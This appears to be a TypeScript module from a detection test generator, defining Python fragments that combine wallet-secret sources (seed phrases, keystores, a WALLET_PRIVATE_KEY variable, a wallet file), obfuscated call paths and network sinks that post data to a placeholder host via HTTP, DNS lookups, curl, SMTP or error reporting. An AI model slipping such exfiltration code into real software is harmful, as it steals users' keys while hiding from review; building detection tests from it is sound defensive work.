import { PYTHON_ENCODERS } from '../encoders.ts';
import type { Parts } from './compose.ts';
import type { Path, Sink, Source } from './composition.ts';

const SOURCES: readonly Source[] = [
  { name: 'constructor', spot: 'acme/account.py:constructor', secret: 'seed', harmless: 'self.public_key' },
  {
    name: 'mnemonic',
    spot: 'acme/account.py:phrase',
    secret: 'phrase.encode()',
    harmless: 'str(len(phrase.split())).encode()',
  },
  { name: 'keystore', spot: 'acme/keystore.py:keystore', secret: 'opened', harmless: 'str(len(opened)).encode()' },
  {
    name: 'environment',
    spot: 'acme/environment.py:environment',
    secret: 'value.encode()',
    harmless: 'str(len(value)).encode()',
    atImport: { value: 'os.environ.get("WALLET_PRIVATE_KEY", "").encode()', imports: 'import os\n' },
  },
  {
    name: 'wallet file',
    spot: 'acme/files.py:file',
    secret: 'content.encode()',
    harmless: 'str(len(content)).encode()',
    atImport: {
      value: 'Path("~/.config/acme-wallet/id.json").expanduser().read_bytes()',
      imports: 'from pathlib import Path\n',
    },
  },
  {
    name: 'clipboard',
    spot: 'acme/paste.py:clipboard',
    secret: 'pasted.encode()',
    harmless: 'str(len(pasted)).encode()',
  },
  { name: 'use', spot: 'acme/signing.py:use', secret: 'b', harmless: 'c' },
];

const one = (name: string, from = 'helper'): Path['imports'] => [{ name, from }];

/** As those of JavaScript; in Python, `deliver` takes bytes. */
const PATHS: readonly Path[] = [
  { name: 'direct', imports: one('deliver', 'codec'), statement: 'deliver($)', files: {} },
  {
    name: 'helper module',
    imports: one('note'),
    statement: 'note($)',
    files: { helper: `def note(detail):\n    deliver(detail)\n` },
  },
  {
    name: 'class field',
    imports: one('tracker'),
    statement: 'tracker.note($)',
    files: {
      helper: `class Tracker:\n    def __init__(self):\n        self.last = None\n\n    def note(self, detail):\n        self.last = {"detail": detail, "at": 1}\n        self.flush()\n\n    def flush(self):\n        deliver(self.last["detail"])\n\n\ntracker = Tracker()\n`,
    },
  },
  {
    name: 'queue and timer',
    imports: one('enqueue'),
    statement: 'enqueue($)',
    files: {
      helper: `import threading\n\n_waiting = []\n\n\ndef _flush():\n    while _waiting:\n        deliver(_waiting.pop()["detail"])\n\n\ndef enqueue(detail):\n    _waiting.append({"detail": detail})\n    timer = threading.Timer(3, _flush)\n    timer.daemon = True\n    timer.start()\n`,
    },
  },
  {
    name: 'queue and thread',
    imports: one('put'),
    statement: 'put($)',
    files: {
      helper: `import queue\nimport threading\n\n_queue = queue.Queue()\n\n\ndef _work():\n    while True:\n        deliver(_queue.get())\n\n\ndef put(detail):\n    _queue.put(detail)\n\n\nthreading.Thread(target=_work, daemon=True).start()\n`,
    },
  },
  {
    name: 'callback',
    imports: one('with_detail'),
    statement: 'with_detail($, lambda detail: detail)',
    files: { helper: `def with_detail(detail, then):\n    deliver(then(detail))\n` },
  },
  {
    name: 'closure',
    imports: one('keep'),
    statement: 'keep($)()',
    files: { helper: `def keep(detail):\n    def later():\n        deliver(detail)\n\n    return later\n` },
  },
  {
    name: 'generator',
    imports: one('run'),
    statement: 'run($)',
    files: {
      helper: `def _parts(detail):\n    yield detail[:8]\n    yield detail[8:]\n\n\ndef run(detail):\n    for part in _parts(detail):\n        deliver(part)\n`,
    },
  },
  {
    name: 'dynamic name',
    imports: one('hub'),
    statement: 'getattr(hub, "".join(["no", "te"]))($)',
    files: { helper: `class _Hub:\n    def note(self, detail):\n        deliver(detail)\n\n\nhub = _Hub()\n` },
  },
  {
    name: 'setattr',
    imports: one('state'),
    statement: 'setattr(state, "last", $)\nstate.flush()',
    files: {
      helper: `class _State:\n    last = b""\n\n    def flush(self):\n        deliver(self.last)\n\n\nstate = _State()\n`,
    },
  },
  {
    name: 'property setter',
    imports: one('status'),
    statement: 'status.last = $',
    files: {
      helper: `class _Status:\n    @property\n    def last(self):\n        return None\n\n    @last.setter\n    def last(self, detail):\n        deliver(detail)\n\n\nstatus = _Status()\n`,
    },
  },
  {
    name: 'kwargs',
    imports: one('note'),
    statement: 'note(level=1, **{"extra": $})',
    files: { helper: `def note(level=0, **fields):\n    deliver(fields["extra"])\n` },
  },
  {
    name: 'positional rest',
    imports: one('note'),
    statement: 'note(1, *[$])',
    files: { helper: `def note(level, *details):\n    for detail in details:\n        deliver(detail)\n` },
  },
  {
    name: 'decorator',
    imports: one('watched'),
    statement: 'watched(lambda detail: detail)($)',
    files: {
      helper: `import functools\n\n\ndef watched(inner):\n    @functools.wraps(inner)\n    def wrapper(*args, **kwargs):\n        deliver(args[0])\n        return inner(*args, **kwargs)\n\n    return wrapper\n`,
    },
  },
  {
    name: 'inheritance',
    imports: one('Reporter'),
    statement: 'Reporter().report($)',
    files: {
      helper: `from .@second import Base\n\n\nclass Reporter(Base):\n    def report(self, detail):\n        super().report({"detail": detail})\n`,
      second: `class Base:\n    def report(self, entry):\n        deliver(entry["detail"])\n`,
    },
  },
  {
    name: 're-export',
    imports: one('note'),
    statement: 'note($)',
    files: {
      helper: `from .@second import mark as note\n\n__all__ = ["note"]\n`,
      second: `def mark(detail):\n    deliver(detail)\n`,
    },
  },
  {
    name: 'global registry',
    imports: one('STATE'),
    statement: 'STATE["last"] = $',
    files: {
      helper: `import threading\n\nSTATE = {}\n\n\ndef _look():\n    if "last" in STATE:\n        deliver(STATE.pop("last"))\n    timer = threading.Timer(5, _look)\n    timer.daemon = True\n    timer.start()\n\n\n_look()\n`,
    },
  },
  {
    name: 'partial',
    imports: one('prepare'),
    statement: 'prepare($)()',
    files: { helper: `import functools\n\n\ndef prepare(detail):\n    return functools.partial(deliver, detail)\n` },
  },
  {
    name: 'context manager',
    imports: one('noted'),
    statement: 'with noted($):\n    pass',
    files: {
      helper: `import contextlib\n\n\n@contextlib.contextmanager\ndef noted(detail):\n    yield\n    deliver(detail)\n`,
    },
  },
  {
    name: 'call object',
    imports: one('Note'),
    statement: 'Note()($)',
    files: { helper: `class Note:\n    def __call__(self, detail):\n        deliver(detail)\n` },
  },
  {
    name: 'dispatch table',
    imports: one('TABLE'),
    statement: 'TABLE["eton"[::-1]]($)',
    files: { helper: `TABLE = {"note": deliver, "none": lambda detail: None}\n` },
  },
  {
    name: 'exec on a worker',
    imports: one('submit'),
    statement: 'submit($)',
    files: {
      helper: `from concurrent.futures import ThreadPoolExecutor\n\n_pool = ThreadPoolExecutor(1)\n\n\ndef submit(detail):\n    _pool.submit(deliver, detail)\n`,
    },
  },
];

const SINKS: readonly Sink[] = [
  {
    name: 'requests body',
    text: `import requests\n\n\ndef send(text):\n    try:\n        requests.post("https://@host/@route", json={"text": text}, timeout=2)\n    except requests.RequestException:\n        pass\n`,
  },
  {
    name: 'requests header',
    text: `import requests\n\n\ndef send(text):\n    session = requests.Session()\n    session.headers.update({"x-request-id": text})\n    try:\n        session.get("https://@host/@route", timeout=2)\n    except requests.RequestException:\n        pass\n`,
  },
  {
    name: 'requests query',
    text: `import requests as http\n\n\ndef send(text):\n    try:\n        http.get("https://@host/@route", params={"v": text}, timeout=2)\n    except Exception:\n        pass\n`,
  },
  {
    name: 'urllib',
    text: `import urllib.request\n\n\ndef send(text):\n    request = urllib.request.Request("https://@host/@route", data=text.encode(), method="POST")\n    try:\n        urllib.request.urlopen(request, timeout=2)\n    except OSError:\n        pass\n`,
  },
  {
    name: 'urllib address',
    text: `from urllib.request import urlopen\n\n\ndef send(text):\n    try:\n        urlopen("https://@host/@route/%s" % text, timeout=2)\n    except OSError:\n        pass\n`,
  },
  {
    name: 'httpx',
    text: `import httpx\n\n\ndef send(text):\n    try:\n        with httpx.Client(base_url="https://@host") as client:\n            client.post("/@route", content=text)\n    except httpx.HTTPError:\n        pass\n`,
  },
  {
    name: 'http client',
    text: `import http.client\n\n\ndef send(text):\n    connection = http.client.HTTPSConnection("@host", timeout=2)\n    try:\n        connection.request("POST", "/@route", body=text)\n    except OSError:\n        pass\n`,
  },
  {
    name: 'socket',
    text: `import socket\n\n\ndef send(text):\n    try:\n        with socket.create_connection(("@host", 443), timeout=2) as connection:\n            connection.sendall(text.encode())\n    except OSError:\n        pass\n`,
  },
  {
    name: 'dns',
    text: `import socket\n\n\ndef send(text):\n    for at in range(0, len(text), 60):\n        try:\n            socket.gethostbyname(f"{text[at:at + 60]}.@host")\n        except OSError:\n            pass\n`,
  },
  {
    name: 'subprocess',
    text: `import subprocess\n\n\ndef send(text):\n    subprocess.Popen(["curl", "-s", "-d", text, "https://@host/@route"], stdout=subprocess.DEVNULL)\n`,
  },
  {
    name: 'os system',
    text: `import os\n\n\ndef send(text):\n    os.system(f"curl -s -d '{text}' https://@host/@route")\n`,
  },
  {
    name: 'smtplib',
    text: `import smtplib\n\n\ndef send(text):\n    try:\n        with smtplib.SMTP_SSL("@host", timeout=2) as mail:\n            mail.sendmail("a@@host", ["b@@host"], text)\n    except OSError:\n        pass\n`,
  },
  {
    name: 'file for later',
    text: `import os\nimport tempfile\nimport urllib.request\n\n_SPOOL = os.path.join(tempfile.gettempdir(), ".portcullis-drill-spool")\n\n\ndef send(text):\n    with open(_SPOOL, "a", encoding="utf-8") as spool:\n        spool.write(text + "\\n")\n\n\ndef ship():\n    with open(_SPOOL, "rb") as spool:\n        urllib.request.urlopen("https://@host/@route", data=spool.read(), timeout=2)\n`,
  },
  {
    name: 'error reporter',
    text: `import sentry_sdk\n\nsentry_sdk.init(dsn="https://0@@host/1")\n\n\ndef send(text):\n    with sentry_sdk.new_scope() as scope:\n        scope.set_extra("text", text)\n        sentry_sdk.capture_message("unexpected state")\n`,
  },
  {
    name: 'web socket',
    text: `import websocket\n\n\ndef send(text):\n    connection = websocket.create_connection("wss://@host/@route", timeout=2)\n    connection.send(text)\n`,
  },
  {
    name: 'aiohttp',
    text: `import asyncio\n\nimport aiohttp\n\n\nasync def _post(text):\n    async with aiohttp.ClientSession() as session:\n        async with session.post("https://@host/@route", data=text):\n            pass\n\n\ndef send(text):\n    asyncio.run(_post(text))\n`,
  },
];

export const PYTHON_PARTS: Parts = {
  sources: SOURCES,
  paths: PATHS,
  encoders: [{ name: 'none', expression: '($).decode("latin-1")', imports: [] }, ...PYTHON_ENCODERS],
  sinks: SINKS,
  triggers: ['at once', 'timer', 'guarded', 'import'],
  harmlessAtImport: 'str(__debug__).encode()',
};
